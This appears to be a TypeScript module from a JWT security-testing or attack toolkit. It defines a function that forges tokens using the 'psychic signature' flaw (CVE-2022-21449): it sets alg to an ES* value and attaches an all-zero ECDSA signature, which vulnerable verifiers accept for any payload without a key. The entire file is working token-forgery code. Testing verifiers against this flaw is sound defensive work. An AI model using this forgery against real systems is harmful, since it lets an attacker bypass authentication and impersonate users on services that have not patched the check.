import { encodeBase64Url } from '../../encoding/base64url';
import { assembleToken, chooseAlg, succeed, type AttackParts } from './attack-parts';
import type { AttackResult } from './attack-result';

/** The size of r (and of s) in an ECDSA JWS signature, per alg (RFC 7518 §3.4). */
const HALF_BYTES = { ES256: 32, ES384: 48, ES512: 66 } as const;

const ECDSA_ALGS = ['ES256', 'ES384', 'ES512'] as const;

/**
 * Returns the token with the "psychic" ECDSA signature r = s = 0 (CVE-2022-21449), which a verifier
 * that skips the 1 ≤ r, s < n check accepts for any message and key: `alg` is the header's ES*,
 * ES256 otherwise. Needs no key.
 */
export function buildPsychicSignatureAttack(parts: AttackParts): AttackResult {
  const alg = chooseAlg(parts.header.alg, ECDSA_ALGS, 'ES256');
  const signature = encodeBase64Url(new Uint8Array(2 * HALF_BYTES[alg]));
  return succeed('psychic-signature', 'default', assembleToken({ ...parts.header, alg }, parts.payloadSegment, signature), parts);
}
